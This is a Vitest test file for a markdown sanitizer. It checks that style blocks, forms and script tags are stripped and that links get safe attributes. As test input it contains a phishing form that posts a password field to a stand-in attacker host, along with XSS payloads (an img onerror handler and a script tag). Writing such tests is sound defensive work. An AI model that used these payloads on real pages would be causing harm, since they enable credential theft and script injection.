// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { markdownToHtml } from '../src/view/markdown'

describe('markdown sanitizing', () => {
  it('drops <style> and <form>, keeps the text around them', () => {
    const html = markdownToHtml('# Title\n\n<style>body { display: none }</style>\n\n<form action="https://evil.example/steal"><input name="pw"><button>Log in</button></form>\n\nafter')
    expect(html).toContain('<h1>Title</h1>')
    expect(html).toContain('after')
    expect(html.toLowerCase()).not.toContain('<style')
    expect(html.toLowerCase()).not.toContain('<form')
    expect(html).not.toContain('evil.example')
  })

  it('still removes script and keeps links safe', () => {
    const html = markdownToHtml('<img src=x onerror="alert(1)"> [a](https://example.com) <script>alert(2)</script>')
    expect(html).not.toContain('onerror')
    expect(html).not.toContain('<script')
    expect(html).toContain('rel="noopener noreferrer"')
  })
})
